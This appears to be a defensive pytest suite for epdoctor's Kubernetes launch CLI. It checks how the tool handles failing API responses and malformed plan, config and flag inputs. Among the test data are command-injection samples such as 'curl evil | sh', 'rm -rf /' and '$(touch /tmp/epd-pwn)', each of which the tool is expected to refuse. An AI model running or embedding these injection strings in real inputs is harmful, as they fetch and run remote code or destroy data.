"""Hostile input against the launch path: `run kernel-test|serve --plan` on a Kubernetes plan,
`run down`, plan.json, config.json and flag values, and the terminal (CLI and TUI).

Each case runs the real CLI in a subprocess with a deadline (tests/hostile/test_inputs.py's
``epd``) against the Kubernetes API emulator (tests/kube_emulator.py) made hostile per request
(an API Status of 401, 403 or 500, an HTML proxy page, half a JSON object, the wrong type, a
server that stalls), and checks: the documented exit code, one line naming the API status and
what is left applied, no traceback, no hang, nothing of epdoctor's left behind (a leak).
``EPD_HOSTILE_TALLY=FILE`` counts them as test_inputs.py does.
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from test_inputs import Expect, Run, epd, judge

from epdoctor import exitcodes

pytest.importorskip("kmock")
from kube_emulator import Image
from launch_helpers import ROOT
from test_run_kube_rollout import IMAGE, left, node, pod_processes

ENGINE = str(ROOT / "tests" / "fake_engine.py")
NAME = "vllm-deepep"


@pytest.fixture(scope="module")
def cluster(kube_api) -> Iterator:
    kube_api.emulator.images[IMAGE] = Image(ROOT / "tests" / "kube_image", {"FAKE_ENGINE": ENGINE})
    kube_api.put(node("h1"), node("h2"))
    yield kube_api


def plan_for(tmp: Path, ns: str) -> Path:
    from epdoctor.plan import PlanInput, make_plan
    from epdoctor.plan.render import render

    p = make_plan(PlanInput(namespace=ns, num_experts=128, gpus_per_node=2, image=IMAGE))
    render(p, tmp / ns)
    return tmp / ns / "plan.json"


def kube(cluster, *argv: str, timeout: float = 60) -> Run:
    return epd(*argv, "--kubeconfig", str(cluster.kubeconfig), "--request-timeout", "2",
               timeout=timeout)  # fmt: skip


def wait_gone(cluster, ns: str, timeout: float = 20) -> str:
    deadline = time.monotonic() + timeout
    while (left(cluster, ns) or pod_processes(ns)) and time.monotonic() < deadline:
        time.sleep(0.3)
    what = left(cluster, ns)
    return f"leak: {what} {pod_processes(ns)}" if what or pod_processes(ns) else ""


def cleanup(cluster, ns: str, plan: Path) -> None:
    cluster.emulator.hostile.clear()
    kube(cluster, "run", "down", "--plan", str(plan), "--yes", timeout=60)


# ---- API failures during `run kernel-test --plan` ----------------------------------------------

# (case, rule, mode, the step it breaks, what the one line must say)
ROLLOUT_CASES = [
    ("read-401", r"GET /statefulsets/", "401", r"API .*401|Unauthorized"),
    ("read-403", r"GET /statefulsets/", "403", r"API .*403|Forbidden"),
    ("read-500", r"GET /statefulsets/", "500", r"API .*500"),
    ("read-html", r"GET /statefulsets/", "html", r"HTML"),
    ("read-truncated", r"GET /statefulsets/", "truncated", r"JSON|truncated"),
    ("read-shape", r"GET /statefulsets/", "shape", r"list|object"),
    ("read-stall", r"GET /statefulsets/", "stall", r"timed out|slowly|did not"),
    ("dry-run-403", r"PATCH /services/", "403", r"API .*403|Forbidden"),
    ("apply-sts-500", r"PATCH /statefulsets/", "500", r"API .*500"),
    ("list-pods-500", r"GET /pods$", "500", r"API .*500"),
    # after the apply: the watch of the pods, the exec of the kernel test
    ("watch-500", r"GET /pods$", "after:1:500", r"API .*500.*(applied is deleted)"),
    ("watch-401", r"GET /pods$", "after:2:401", r"API .*401.*(applied is deleted)"),
    ("watch-html", r"GET /pods$", "after:1:html", r"HTML.*applied is deleted"),
    ("watch-shape", r"GET /pods$", "after:1:shape", r"list|object"),
    ("watch-stall", r"GET /pods$", "after:2:stall", r"timed out|slowly|did not"),
    ("sts-read-garbage", r"GET /statefulsets/", "after:1:shape", r"list|object"),
    ("exec-403", r"GET /pods/[^/]+/exec$", "403", r"API .*403|Forbidden"),
    ("exec-drop", r"GET /pods/[^/]+/exec$", "exec-drop", r"exec|closed|status"),
]


def kernel_test_under(cluster, plan: Path, rule: str, mode: str) -> Run:
    """`run kernel-test --plan` while the API answers `rule`'s requests with `mode`."""
    cluster.emulator.hostile[rule] = mode
    try:
        return kube(cluster, "run", "kernel-test", "--plan", str(plan), "--yes", "--no-preflight",
                    "--timeout", "60", timeout=90)  # fmt: skip
    finally:
        cluster.emulator.hostile.clear()


@pytest.mark.parametrize(("cid", "rule", "mode", "says"), ROLLOUT_CASES,
                         ids=[c[0] for c in ROLLOUT_CASES])  # fmt: skip
def test_an_api_failure_during_a_rollout_is_an_error(cluster, tmp_path, cid, rule, mode, says):
    ns = f"h-{cid}"
    plan = plan_for(tmp_path, ns)
    verb, path = rule.split(" ", 1)
    r = kernel_test_under(cluster, plan, f"{verb} /namespaces/{ns}{path}", mode)
    try:
        judge(f"launch/{cid}", r, Expect(code=exitcodes.ERROR, says=says, one_line=False,
                                          check=lambda _r: wait_gone(cluster, ns)))  # fmt: skip
    finally:
        cleanup(cluster, ns, plan)


def test_a_take_down_that_fails_has_its_own_exit_code(cluster, tmp_path):
    ns = "h-del-500"
    plan = plan_for(tmp_path, ns)
    r = kernel_test_under(cluster, plan, f"DELETE /namespaces/{ns}/statefulsets/", "500")
    try:
        judge("launch/delete-500", r, Expect(
            code=exitcodes.TAKEDOWN_INCOMPLETE, one_line=False,
            says=r"take-down incomplete: still there: statefulset/vllm-deepep .*run down"))  # fmt: skip
        assert exitcodes.TAKEDOWN_INCOMPLETE not in (exitcodes.FINDINGS, exitcodes.ERROR)
    finally:
        cleanup(cluster, ns, plan)
    assert not wait_gone(cluster, ns)


# ---- `run down` against a hostile API ----------------------------------------------------------


def applied(cluster, tmp_path, ns: str) -> Path:
    """A plan whose objects epdoctor applied: the rollout's own apply step (server-side apply as
    field manager epdoctor, the managed-by label), without the kernel test after it. The
    whole rollout runs in the tests above; here only what `run down` finds matters."""
    from epdoctor.launch.kube_objects import load_objects, phase
    from epdoctor.targets.kube import KubeSession
    from epdoctor.targets.kube_apply import KubeApply

    plan = plan_for(tmp_path, ns)
    session = KubeSession.connect(kubeconfig=str(cluster.kubeconfig))
    try:
        objects = load_objects(json.loads(plan.read_text()), str(plan), ns, lint=False)
        api = KubeApply(session)
        for obj in phase(objects, run_serve=False):
            api.apply(obj)
    finally:
        session.close()
    return plan


DOWN_CASES = [
    ("read-401", "GET /statefulsets/", "401", exitcodes.ERROR, r"API \(HTTP 401\).*nothing was deleted"),
    ("read-403", "GET /statefulsets/", "403", exitcodes.ERROR, r"API \(HTTP 403\).*nothing was deleted"),
    ("read-500", "GET /statefulsets/", "500", exitcodes.ERROR, r"API \(HTTP 500\).*nothing was deleted"),
    ("read-html", "GET /statefulsets/", "html", exitcodes.ERROR, r"HTML.*nothing was deleted"),
    ("read-truncated", "GET /statefulsets/", "truncated", exitcodes.ERROR, r"JSON.*nothing was deleted"),
    ("read-shape", "GET /statefulsets/", "shape", exitcodes.ERROR, r"nothing was deleted"),
    ("read-garbage", "GET /statefulsets/", "wrong-object", exitcodes.ERROR,
     r"not the StatefulSet asked for.*nothing was deleted"),
    ("read-stall", "GET /statefulsets/", "stall", exitcodes.ERROR, r"nothing was deleted"),
    ("delete-500", "DELETE /statefulsets/", "500", exitcodes.TAKEDOWN_INCOMPLETE,
     r"take-down incomplete: still there: statefulset/vllm-deepep"),
    ("delete-403", "DELETE /services/", "403", exitcodes.TAKEDOWN_INCOMPLETE,
     r"take-down incomplete: still there: service/"),
    ("delete-garbage", "GET /statefulsets/", "after:1:wrong-object", exitcodes.TAKEDOWN_INCOMPLETE,
     r"take-down incomplete: still there: statefulset/vllm-deepep"),
]  # fmt: skip


@pytest.mark.parametrize(("cid", "rule", "mode", "code", "says"), DOWN_CASES,
                         ids=[c[0] for c in DOWN_CASES])  # fmt: skip
def test_run_down_against_a_hostile_api(cluster, tmp_path, cid, rule, mode, code, says):
    ns = f"d-{cid}"
    plan = applied(cluster, tmp_path, ns)
    verb, path = rule.split(" ", 1)
    cluster.emulator.hostile[f"{verb} /namespaces/{ns}{path}"] = mode
    cluster.emulator.hostile_seen.clear()
    try:
        r = kube(cluster, "run", "down", "--plan", str(plan), "--yes", timeout=60)
    finally:
        cluster.emulator.hostile.clear()
    try:
        judge(f"down/{cid}", r, Expect(code=code, says=says, max_s=40))
        assert "left alone" not in r.out, r.out  # garbage is never "not epdoctor's"
    finally:
        cleanup(cluster, ns, plan)
    assert not wait_gone(cluster, ns)


def test_run_down_json_dry_run_prints_json(cluster, tmp_path):
    ns = "d-json"
    plan = applied(cluster, tmp_path, ns)
    try:
        r = kube(cluster, "run", "down", "--plan", str(plan), "--json", "--dry-run")
        judge("down/json-dry-run", r, Expect(code=0, one_line=False))
        doc = json.loads(r.out)
        assert doc["dry_run"] is True and doc["done"] == []
        assert "delete:    statefulset/vllm-deepep" in doc["plan"]
        assert left(cluster, ns)  # nothing deleted
    finally:
        cleanup(cluster, ns, plan)


def test_sighup_during_run_down_finishes_the_deletion(cluster, tmp_path):
    import signal
    import subprocess
    import sys

    ns = "d-sighup"
    plan = applied(cluster, tmp_path, ns)
    # the StatefulSet's delete stalls for --request-timeout: SIGHUP arrives in the middle
    cluster.emulator.hostile[f"DELETE /namespaces/{ns}/statefulsets/"] = "stall"
    try:
        p = subprocess.Popen(
            [sys.executable, "-m", "epdoctor", "run", "down", "--plan", str(plan), "--yes",
             "--kubeconfig", str(cluster.kubeconfig), "--request-timeout", "3"],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT,
            env={**os.environ, "PYTHONPATH": str(ROOT)}, start_new_session=True,
        )  # fmt: skip
        deadline = time.monotonic() + 30
        while not any(s.startswith("DELETE") and ns in s for s in cluster.emulator.seen):
            assert time.monotonic() < deadline and p.poll() is None
            time.sleep(0.05)
        p.send_signal(signal.SIGHUP)
        out, err = p.communicate(timeout=40)
    finally:
        cluster.emulator.hostile.clear()
    try:
        both = out + err
        assert "Traceback" not in both, both[-1500:]
        assert "SIGHUP arrived during the take-down; it was finished first" in err, err
        # the stalled delete failed: the take-down is incomplete, said with its own code
        assert p.returncode == exitcodes.TAKEDOWN_INCOMPLETE, (p.returncode, err)
        assert "deleted service/vllm-deepep in namespace d-sighup" in out  # it went on
    finally:
        cleanup(cluster, ns, plan)
    assert not wait_gone(cluster, ns)


# ---- plan.json, config.json and flag values: refused on load, before anything connects ---------


def _plan_doc(tmp_path: Path) -> dict:
    return json.loads(plan_for(tmp_path, "inputs").read_text())


def _bad_plans(tmp_path: Path) -> list[tuple[str, Path, str]]:
    """(case, plan path, what the one line says)"""
    good = _plan_doc(tmp_path)
    out: list[tuple[str, Path, str]] = []

    def put(cid: str, says: str, doc=None, raw: bytes | None = None) -> None:
        p = tmp_path / f"{cid}.json"
        p.write_bytes(raw if raw is not None else json.dumps(doc).encode())
        out.append((cid, p, says))

    def edit(cid: str, says: str, **changes) -> None:
        doc = json.loads(json.dumps(good))
        for k, v in changes.items():
            if "__" in k:
                a, b = k.split("__")
                doc[a][b] = v
            else:
                doc[k] = v
        put(cid, says, doc)

    edit("nodes-100000", r"nodes must be an integer 1\.\.64", nodes=100000)
    edit("nodes-string", r"nodes must be an integer", nodes="2")
    edit("nodes-float", r"gpus_per_node must be an integer", gpus_per_node=1.5)
    edit("nodes-bool", r"efa_per_node must be an integer", efa_per_node=True)
    edit("name-300", r"name must be a DNS-1123 label", name="a" * 300)
    edit("name-newline", r"name must be a DNS-1123 label", name="vllm-deepep\n")
    edit("name-markup", r"name must be a DNS-1123 label", name="[/]")
    edit("ns-newline", r"input\.namespace must be a DNS-1123 label", input__namespace="default\n")
    edit("engine-markup", r"input\.engine must be a single word", input__engine="[/]vllm")
    edit("pin-newline", r"vllm_pin must be a commit", vllm_pin="abc1234\nRUN curl x | sh")
    edit("cmd-escape", r"commands\.kernel_run holds control characters",
         commands={**good["commands"], "kernel_run": "true\x1b[2K\x1b[1A curl evil | sh"})  # fmt: skip
    edit("env-name", r"env\[0\]\.name must be an environment variable name",
         env=[{"name": "A;rm -rf /", "value": "x"}])  # fmt: skip
    edit("commands-list", r"commands must be an object", commands=["x"])
    edit("input-list", r"input must be an object", input=[1])
    put("list", r"not a plan", [1, 2])
    put("not-json", r"not valid JSON", raw=b"{nope")
    put("deep", r"nested too deeply", raw=b"[" * 100_000 + b"]" * 100_000)
    put("huge", r"larger than 4 MiB", raw=b'{"x": "' + b"a" * (5 << 20) + b'"}')
    put("binary", r"not UTF-8", raw=b"\xff\xfe{}")
    fifo = tmp_path / "fifo.json"
    os.mkfifo(fifo)
    out.append(("fifo", fifo, r"FIFO"))
    out.append(("dev-zero", Path("/dev/zero"), r"device"))
    out.append(("directory", tmp_path, r"directory"))
    return out


def test_a_hostile_plan_is_refused_on_load(cluster, tmp_path):
    import concurrent.futures

    cases = _bad_plans(tmp_path)
    runs = [
        (cid, says, argv)
        for cid, path, says in cases
        for argv in (["run", "kernel-test", "--plan", str(path), "--yes"],
                     ["run", "serve", "--plan", str(path), "--yes"],
                     ["run", "down", "--plan", str(path), "--yes"])
    ]  # fmt: skip
    before = len(cluster.emulator.seen)
    # independent short runs: a few at a time (the machine's cores)
    with concurrent.futures.ThreadPoolExecutor(max_workers=max(2, os.cpu_count() or 2)) as pool:
        results = list(pool.map(lambda run: kube(cluster, *run[2], timeout=60), runs))
    failed = []
    for (cid, says, argv), r in zip(runs, results, strict=True):
        try:
            judge(f"plan/{argv[1]}/{cid}", r, Expect(code=exitcodes.ERROR, says=says, max_s=40,
                                                     max_rss_mb=400))  # fmt: skip
        except AssertionError as exc:
            failed.append(f"{argv[1]}/{cid}: {exc}")
    assert not failed, "\n".join(failed)
    # every plan was refused before any API request
    assert len(cluster.emulator.seen) == before, cluster.emulator.seen[before:][:3]
    assert len(cases) >= 20


def test_the_manifest_service_name_never_reaches_a_shell_unquoted(tmp_path):
    from epdoctor.launch import kube_objects as ko

    doc = json.loads(plan_for(tmp_path, "svc").read_text())
    objs = ko.load_objects(doc, None, "svc")
    objs.statefulset["spec"]["serviceName"] = "x$(touch /tmp/epd-pwn);y"
    with pytest.raises(ko.PlanObjectsError, match="serviceName"):
        _ = objs.leader_address


def test_plan_refuses_a_hostile_config_json_and_pins(tmp_path):
    model = tmp_path / "model"
    model.mkdir()
    cases = []
    (model / "config.json").symlink_to("/dev/zero")
    cases.append(("config-dev-zero", ["plan", "--no-input", "--model", str(model)],
                  r"no config\.json|device"))  # fmt: skip
    # a Hugging Face cache entry linked to /dev/zero (it reached 20 GB resident)
    snap = tmp_path / "hf" / "models--org--moe" / "snapshots" / "abc"
    snap.mkdir(parents=True)
    (snap / "config.json").symlink_to("/dev/zero")
    cases.append(("cache-dev-zero", ["plan", "--no-input", "--model", "org/moe", "--hf-cache",
                                     str(tmp_path / "hf")], r"device"))  # fmt: skip
    fifo_model = tmp_path / "fifo-model"
    fifo_model.mkdir()
    os.mkfifo(fifo_model / "config.json")
    cases.append(("config-fifo", ["plan", "--no-input", "--model", str(fifo_model)], r"FIFO"))
    big = tmp_path / "big-model"
    big.mkdir()
    (big / "config.json").write_bytes(b'{"a": "' + b"x" * 2_000_000 + b'"}')
    cases.append(("config-huge", ["plan", "--no-input", "--model", str(big)], r"larger than"))
    deep = tmp_path / "deep-model"
    deep.mkdir()
    (deep / "config.json").write_bytes(b"[" * 50_000 + b"]" * 50_000)
    cases.append(
        ("config-deep", ["plan", "--no-input", "--model", str(deep)], r"nested too deeply")
    )
    base = ["plan", "--no-input", "--num-experts", "128"]
    cases += [
        ("pin-newline", [*base, "--vllm-pin", "abc1234\nRUN curl x | sh"], r"--vllm-pin .*neither"),
        ("pin-shell", [*base, "--vllm-pin", "0.11.0; rm -rf /"], r"--vllm-pin .*neither"),
        ("name-newline", [*base, "--name", "vllm\n"], r"name .*DNS-1123"),
        ("ns-newline", [*base, "-n", "default\n"], r"namespace .*DNS-1123"),
        ("image-newline", [*base, "--image", "repo/x:v1\nRUN id"], r"image"),
    ]
    failed = []
    for cid, argv, says in cases:
        r = epd(*argv, "-o", str(tmp_path / f"out-{cid}"), timeout=30)
        try:
            judge(f"plan-input/{cid}", r, Expect(code=exitcodes.ERROR, says=says, max_s=20,
                                                 max_rss_mb=400))  # fmt: skip
            assert not (tmp_path / f"out-{cid}").exists() or "RUN" not in "".join(
                p.read_text() for p in (tmp_path / f"out-{cid}").rglob("Dockerfile*")
            )
        except AssertionError as exc:
            failed.append(f"{cid}: {exc}")
    assert not failed, "\n".join(failed)


# ---- ownership by identity --------------------------------------------------------------------


def test_a_bystander_pod_with_the_label_gets_no_exec(cluster, tmp_path):
    from kube_emulator import running_pod

    from epdoctor.launch import kube_objects as ko

    ns = "h-bystander"
    plan = plan_for(tmp_path, ns)
    labels = ko.load_objects(json.loads(plan.read_text()), str(plan), ns).statefulset["spec"][
        "selector"]["matchLabels"]  # fmt: skip
    intruder = running_pod("intruder", ns)
    intruder["metadata"]["labels"] = {**labels, "apps.kubernetes.io/pod-index": "0"}
    intruder["metadata"]["ownerReferences"] = [  # claims a StatefulSet owner of another UID
        {"apiVersion": "apps/v1", "kind": "StatefulSet", "name": NAME, "uid": "not-the-real-one"}
    ]
    cluster.put(intruder)
    before = len(cluster.emulator.exec_calls)
    try:
        r = kube(cluster, "run", "kernel-test", "--plan", str(plan), "--yes", "--timeout", "90",
                 timeout=180)  # fmt: skip
        execs = [c["pod"] for c in cluster.emulator.exec_calls[before:] if c["namespace"] == ns]
        assert "intruder" not in execs, execs
        assert execs, "the rollout ran nothing in its own pods"
        assert "left alone: pod/intruder" in r.out, r.out[-2000:]
        assert "Traceback" not in r.out + r.err
        assert r.rc in (0, 1), r.err[-500:]  # the kernel test ran on epdoctor's pods only
    finally:
        cleanup(cluster, ns, plan)
    from epdoctor.targets.kube import KubeSession

    s = KubeSession.connect(None, str(cluster.kubeconfig))
    try:  # the bystander is not epdoctor's: still there
        assert s.call("pod", s.core.read_namespaced_pod, "intruder", ns)["metadata"]["name"]
    finally:
        s.close()


@pytest.mark.parametrize(("cid", "old", "new", "says"), [
    ("replicas-100000", "replicas: 2", "replicas: 100000", r"replicas must be 1\.\.64|replicas"),
    ("service-name-shell", "serviceName: vllm-deepep-headless",
     "serviceName: 'x$(touch /tmp/epd-pwn-svc)'", r"serviceName|DNS"),
])  # fmt: skip
def test_a_hostile_manifest_is_refused_before_it_is_used(cluster, tmp_path, cid, old, new, says):
    ns = f"m-{cid}"
    plan = plan_for(tmp_path, ns)
    manifest = plan.parent / "kubernetes" / f"{NAME}.yaml"
    text = manifest.read_text()
    assert old in text
    manifest.write_text(text.replace(old, new))
    before = len(cluster.emulator.seen)
    r = kube(cluster, "run", "kernel-test", "--plan", str(plan), "--yes", "--no-preflight",
             timeout=60)  # fmt: skip
    try:
        judge(f"manifest/{cid}", r, Expect(code=exitcodes.ERROR, says=says, max_s=30))
        assert len(cluster.emulator.seen) - before < 20, "bounded before any check"
        assert not Path("/tmp/epd-pwn-svc").exists()
        assert left(cluster, ns) == {}
    finally:
        cleanup(cluster, ns, plan)
